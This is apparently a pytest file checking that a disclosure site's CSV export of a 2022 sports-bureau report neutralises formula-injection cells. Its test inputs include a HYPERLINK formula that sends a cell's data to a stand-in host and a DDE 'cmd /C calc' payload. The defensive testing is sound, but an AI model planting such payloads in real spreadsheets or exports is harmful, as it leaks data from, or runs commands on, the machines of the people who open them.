"""CSV injection (OWASP): a title or label that starts like a formula reaches a spreadsheet as text, never as a
formula; the figures, negative changes (本年增/减) included, stay numbers."""

import csv
import io

import pytest

from disclosure.models import Revision
from disclosure.tables import csv_download, formats
from disclosure.tables.csv_download import BOM
from tests.factories import make_report, publish, standard_tables

URL = "/reports/2022/sports-bureau/tables.csv"
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def read(response):
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


def parsed(text):
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_a_title_that_starts_like_a_formula_is_text(client, db, start):
    title = f'{start}HYPERLINK("http://example.com/?x="&A2,"年报")'
    report = make_report(year=2022, format=formats.STANDARD_2021, levels=(1,) * 6, tables=standard_tables())
    revision = publish(report)
    # Written into the published revision as it stands: whatever a form trims, the CSV must not trust it.
    document = revision.document
    document["title"] = {"zh-hans": title}
    Revision.objects.filter(pk=revision.pk).update(document=document)
    rows = read(client.get(URL))
    assert rows[0] == ["'" + title]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_a_label_that_starts_like_a_formula_is_text(monkeypatch, start):
    """Labels come from the catalogues and headings from formats.py: every cell written is neutralised."""
    label = f"{start}cmd|' /C calc'!A0"
    monkeypatch.setattr(
        csv_download, "lines", lambda document: [[label], [label, "-3", "0.00", "12", "", f"{start}1+1"]]
    )
    rows = parsed(csv_download.render({}))
    assert rows == [["'" + label], ["'" + label, "-3", "0.00", "12", "", f"'{start}1+1"]]


def test_figures_stay_numbers_and_ordinary_text_is_unchanged(client, db):
    tables = standard_tables(formats.TRIAL_2019)
    tables["active"]["licensing"]["change"] = -3  # 本年增/减 may be negative: a number, not a formula
    report = make_report(year=2022, format=formats.TRIAL_2019, levels=(1,) * 6, tables=tables)
    publish(report)
    rows = read(client.get(URL))
    assert rows[0] == ["锦州市体育局2022年政府信息公开工作年度报告"]
    licensing = next(row for row in rows if row[:1] == ["第二十条第（五）项 行政许可"])
    assert "-3" in licensing and not any(cell.startswith("'") for cell in licensing)
    assert not any(cell.startswith("'") for row in rows for cell in row)
